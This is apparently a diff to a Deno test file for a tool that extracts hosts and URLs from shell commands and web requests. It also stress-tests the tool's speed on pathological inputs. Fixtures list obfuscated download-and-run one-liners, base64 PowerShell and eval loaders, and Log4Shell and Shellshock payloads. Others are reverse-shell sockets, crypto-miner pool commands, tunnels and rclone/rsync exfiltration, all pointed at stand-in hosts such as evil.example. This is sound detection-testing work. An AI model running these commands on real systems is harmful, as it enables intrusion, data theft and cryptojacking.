@@ -81,6 +81,39 @@ const COMMANDS: Readonly<Record<string, readonly string[]>> = {
   ]: ["evil.example", "http://evil.example/x"],
   "printf '\\x63\\x75\\x72\\x6c evil.example'": ["evil.example"],
   'cu""rl evil.example': ["evil.example"],
+  [`c'u'r"l" ht"tp"://e'v'il.example/x`]: [
+    "http://evil.example/x",
+    "evil.example",
+  ],
+  "w\\get h\\t\\tp\\:\\/\\/evil.example/x": [
+    "http://evil.example/x",
+    "evil.example",
+  ],
+  'echo -e "\\0150\\0164\\0164\\0160\\072\\057\\057evil.example/x"': [
+    "http://evil.example/x",
+    "evil.example",
+  ],
+  [`"ht"+'tp://evil'+".example/x"`]: ["http://evil.example/x", "evil.example"],
+  "('ht','tp://evil.','example/x') -join ''": [
+    "http://evil.example/x",
+    "evil.example",
+  ],
+  [
+    `[char[]](${
+      [..."http://evil.example/x"].map((letter) => letter.charCodeAt(0)).join()
+    })`
+  ]: ["http://evil.example/x", "evil.example"],
+  "echo 'x/elpmaxe.live//:ptth lruc' | rev | sh": [
+    "http://evil.example/x",
+    "evil.example",
+  ],
+  [
+    `$b="${btoa("curl evil.example/x")}";iex([Convert]::FromBase64String($b))`
+  ]: ["evil.example", "http://evil.example/x"],
+  [`eval(Buffer.from('${btoa("curl evil.example/x")}','base64'))`]: [
+    "evil.example",
+    "http://evil.example/x",
+  ],
   '("{1}{0}" -f "evil.example/x","http://")': [
     "http://evil.example/x",
     "evil.example",
@@ -95,8 +128,61 @@ const COMMANDS: Readonly<Record<string, readonly string[]>> = {
   ],
   "copy \\\\9.8.7.6\\c$\\100\\120\\130.txt": ["9.8.7.6"],
   "C:\\\\nssm-2.24-101-g897c7ad\\\\win64\\\\nssm.exe": [],
-  "curl -s a.b.c; java.lang.ProcessBuilder": ["a.b.c"],
+  "curl -s a.b.ru; java.lang.ProcessBuilder": ["a.b.ru"],
   "curl x java.lang.ProcessBuilder": [],
+  "docker run --rm -it evil.example/x": ["evil.example"],
+  "docker run -d -p 80:80 a.evil.example:5000/x/y:6.21.0 --z 1": [
+    "a.evil.example",
+  ],
+  "docker pull 9.8.7.6:5000/img": ["9.8.7.6"],
+  "docker login evil.example -u x": ["evil.example"],
+  "kubectl set image deployment/web web=evil.example/web:2": ["evil.example"],
+  [
+    `-join ('${
+      new TextEncoder().encode("http://evil.example/x").toHex()
+    }' -split '(..)' | % {[char][convert]::ToInt32($_,16)})`
+  ]: ["http://evil.example/x", "evil.example"],
+  "docker -H tcp://9.8.7.6:2375 ps": ["9.8.7.6"],
+  "docker run -v a.conf/x:/b -e A=b.conf/c nginx:1.25 bitnami/redis:7.2": [],
+  "podman pull a.ru/x/y; crictl pull b.ru/z:1; nerdctl run c.ru/w": [
+    "a.ru",
+    "b.ru",
+    "c.ru",
+  ],
+  "docker pull evil.example/tools/git": ["evil.example"],
+  "kubectl run x --image=evil.example/miner:1 -n kube-system": ["evil.example"],
+  "kubectl get pods.metrics.k8s.io deployments.apps -f app.yaml": [],
+  "helm install x oci://evil.example/charts/x": ["evil.example"],
+  "skopeo copy docker://evil.example/a:1 dir:/tmp/x": ["evil.example"],
+  "git clone git://a.ru/x.git; git clone user@b.ru:x; git remote add o c.ru:x/y":
+    ["a.ru", "b.ru", "c.ru"],
+  "git clone ssh://git@evil.example:2222/x.git": ["evil.example"],
+  "git commit -m fix.this; git config user.email a.br; git add main.go": [],
+  "go get evil.example/x/y@v1.2.3; go test ./a.ru/b": ["evil.example"],
+  "pip install --trusted-host evil.example x": ["evil.example"],
+  "./xmrig -o evil.example:3333 -u w -p x": ["evil.example"],
+  "./x -o stratum+tcp://evil.example:3333": ["evil.example"],
+  "at java.lang.Thread:12 main.go:12 app.py:80 x.y:80": [],
+  "swaks --to a@own.example --server evil.example": ["evil.example"],
+  "apt-key adv --keyserver evil.example --recv 1234": ["evil.example"],
+  "rclone copy D: :sftp,host=evil.example,user=x:/loot": ["evil.example"],
+  "java -Djava.rmi.server.hostname=own.ru --hostname own.ru --host": [],
+  "wmic /node:evil.example process call create x": ["evil.example"],
+  "PsExec64.exe -accepteula \\\\evil.example -s cmd": ["evil.example"],
+  "plink.exe -N -R 3389:localhost:3389 user@evil.example": ["evil.example"],
+  "ssh -fNL 8080:a.evil.example:80 b.evil.example": [
+    "a.evil.example",
+    "b.evil.example",
+  ],
+  "psexec.py corp/admin:Pw@evil.example": ["evil.example"],
+  "winscp /command 'open sftp://u:p@evil.example/'": ["evil.example"],
+  "rsync -av /home/ rsync://evil.example/mod/": ["evil.example"],
+  "mount -t cifs //evil.example/share /mnt": ["evil.example"],
+  "sshpass -p 'p.w' ssh root@evil.example": ["evil.example"],
+  "tftp -l x -r mirai.arm7 -g evil.example": ["evil.example"],
+  'IO::Socket::INET->new(PeerAddr=>"evil.example:4444")': ["evil.example"],
+  'sockaddr_in(443,inet_aton("evil.example"))': ["evil.example"],
+  "awk 'BEGIN{s=\"/inet/tcp/0/evil.example/4444\"}'": ["evil.example"],
   "ls -l /etc/nginx.conf.d x.service": [],
   "apt install curl libssl.so": [],
   "java -jar app.jar org.apache.Main 1.2": [],
@@ -119,6 +205,9 @@ const REQUESTS: Readonly<Record<string, readonly string[]>> = {
   ],
   "/i.php?c=%2563%2575rl%2520evil.example": ["evil.example"],
   "/;nslookup$IFS'evil.example'": ["evil.example"],
+  [`/x.php?c=eval(base64_decode('${btoa("curl evil.example")}'))`]: [
+    "evil.example",
+  ],
   "() { :;}; /bin/bash -c 'ping evil.example'": ["evil.example"],
   "${jndi:ldap://evil.example:1389/a}": [
     "ldap://evil.example:1389/a",
@@ -186,6 +275,15 @@ const HOSTILE: Readonly<Record<string, (n: number) => string>> = {
   "numbers of letters": (n) => "\\x41".repeat(n / 4),
   "hex": (n) => `xxd -r ${"41".repeat(n / 2)}`,
   "blanks": (n) => `base64 ${" ".repeat(n)}`,
+  "quotes in words": (n) => "a'b'".repeat(n / 4),
+  "letters' numbers": (n) => `char ${"97,".repeat(n / 3)}x`,
+  "lists joined": (n) => `${"'a','b',".repeat(n / 8)} -join ''`,
+  "schemes": (n) => "a://b@".repeat(n / 6),
+  "escaped schemes": (n) => "\\h\\t\\t".repeat(n / 6),
+  "images": (n) => "docker pull a.io/x:".repeat(n / 19),
+  "ports": (n) => "1:".repeat(n / 2),
+  "options": (n) => "--server ".repeat(n / 9),
+  "reversed": (n) => `| rev ${"| ver ".repeat(n / 6)}`,
 };
 
 Deno.test("commands take time in proportion, and not for long", async (t) => {
